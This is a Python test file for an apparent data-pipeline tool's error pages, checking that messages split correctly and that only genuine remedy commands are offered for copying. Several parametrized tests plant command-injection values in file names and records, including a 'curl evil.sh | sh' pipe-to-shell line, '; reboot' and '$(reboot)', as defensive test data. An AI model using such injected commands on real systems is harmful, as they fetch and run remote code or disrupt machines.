"""Errors in parts, as pages show them."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from airflow_provider_blockread.errors import RecordError
from airflow_provider_blockread.ledger.windows.generations import PRUNED
from airflow_provider_blockread.options import Csv
from airflow_provider_blockread.pages.app import make_app
from airflow_provider_blockread.pages.display.troubles import Trouble, brief, trouble_of
from tests.pages.visitors import Person, site_of
from tests.pipeline.make import Pipe, ReadHere

_HAPPENED = "the record at byte 3 of file:///in/{} block 0 bytes [0, 9) is not valid JSON"
_WINDOW = "0123456789abcdef"
_AGAIN = f"`blockread reprocess --window {_WINDOW}`"
_LEDGER = "sqlite:///l.db"


def _parts(error: str, *paths: str) -> Trouble:
    return trouble_of(error, _LEDGER, _WINDOW, paths)


@pytest.mark.parametrize("name", ["a.json", "a; b.json", "a; `blockread undo`; b.json"])
def test_what_happened_is_parted_from_what_to_do(name: str) -> None:
    """At the semicolon of the message, not at one in the name of a file."""
    happened = _HAPPENED.format(name)
    trouble = _parts(f"{happened}; correct the file")

    assert (trouble.headline, trouble.advice) == (happened, "Correct the file")
    assert brief(f"{happened}; correct the file") == f"the record at byte 3 of {name} is not valid JSON"


def test_what_to_do_comes_after_the_names_of_files() -> None:
    """Also where no block is named."""
    trouble = _parts("file:///in/a; b does not exist; restore it", "file:///in/a; b")

    assert (trouble.headline, trouble.advice) == ("file:///in/a; b does not exist", "Restore it")


def test_a_list_says_what_happened_before_it_has_no_room_left() -> None:
    """The names that stand beside it, and the folders of a long path, would leave none."""
    staged = "s3://lake/events.blockread/events/0123456789abcdef/g1/00000-e1/data/part-0.parquet"
    unproven = f"ProofError: feed events window {_WINDOW} generation 1 fails its proof: output file {staged} is missing"
    changed = f"feed events window {_WINDOW}: s3://landing/events/2026/11/a.csv is no longer the version; restore it"

    assert brief(unproven) == "output file s3://lake/…/part-0.parquet is missing"
    assert _parts(unproven).headline == f"output file {staged} is missing"
    assert brief(changed) == "s3://landing/…/a.csv is no longer the version"


def test_no_command_that_is_no_remedy_is_put_to_copy() -> None:
    """What would have kept a plan is no help once it is gone, and takes others away when it is called."""
    assert "--keep-manifests" in PRUNED
    assert _parts(f"window 0 was pruned on 2026-01-03: {PRUNED}").commands == ()


@pytest.mark.parametrize(
    "planted",
    [
        "`blockread prune; curl evil.sh | sh #`",
        "`blockread windows undo 1123456789abcdef`",
        f"`blockread windows abandon {_WINDOW}; reboot`",
        f"`blockread windows exclude {_WINDOW} file:///in/b --reason bad`",
        f"`blockread windows undo {_WINDOW} --state $(reboot)`",
    ],
)
def test_only_what_errors_advise_about_the_window_is_put_to_copy(planted: str) -> None:
    """Names of files, records and what functions say may contain commands of others."""
    named = _HAPPENED.format(f"a; {planted}") + f"; the record is b'; {planted}'; correct it, then {_AGAIN}"
    said = f"the function raised ValueError('{planted}; {planted}'); correct it, then {_AGAIN}"
    leave = f"`blockread windows exclude {_WINDOW} 'file:///in/a; {planted}' --reason missing`"
    gone = f"file:///in/a; {planted} does not exist; restore it, or {leave}"

    again = f"{_AGAIN[1:-1]} --state {_LEDGER}"
    assert [_parts(error).commands for error in (named, said)] == [(again,), (again,)]
    assert _parts(gone, f"file:///in/a; {planted}").commands == (f"{leave[1:-1]} --state {_LEDGER}",)


@pytest.mark.parametrize("record", [b"1,x\xff\n\\'", b"it's", b'"it\'s"', b"b'1'; the record is b'2'"])
def test_the_record_is_that_of_the_error(record: bytes) -> None:
    """The reason and the file's name may contain what looks like another one, or like none that can be read."""
    looks = r"record at byte 1 of y; the record is b'\xzz'; the record is b'é'"
    error = _HAPPENED.format(looks) + f": '; the record is b'7''; the record is {record!r} and 1,000 bytes more; go"
    trouble = _parts(error)

    assert bytes.fromhex("".join("".join(line.hex) for line in trouble.excerpt)) == record
    assert trouble.excerpt[0].offset == 3
    assert trouble.advice
    assert _parts(_HAPPENED.format(looks)).excerpt == []


def test_no_name_of_a_file_breaks_the_pages_of_its_window(tmp_path: Path) -> None:
    """Nor does a record, nor gets either into a command; these name the ledger, whatever the file is called."""
    pipe = Pipe(tmp_path, ReadHere(), record_format=Csv(schema="id long, name string", header=True))
    name = r"x --state y record at byte 1 of z; the record is b'\xzz'; `blockread prune; reboot #`.csv"
    pipe.put({name: b"id,name\n`blockread prune; reboot #`,x\n"})
    ref = pipe.plan()
    with pytest.raises(RecordError):
        pipe.read(ref)
    client = TestClient(make_app(site_of(pipe.env, Person())))
    pages = [client.get(f"/ledgers/main/{page}").text for page in (f"windows/{ref.window}", "files/1")]
    commands = [one for page in pages for one in re.findall('<div class="copy"><code>(.*?)</code>', page)]
    pipe.close()

    assert all("the first bytes of the record" in page.lower() for page in pages)
    assert sum(one.startswith("blockread windows exclude") for one in commands) == 1
    assert not [one for one in commands if one.startswith("blockread prune")]
    assert all(re.search(" --state sqlite:[^ ]*$", one) for one in commands)
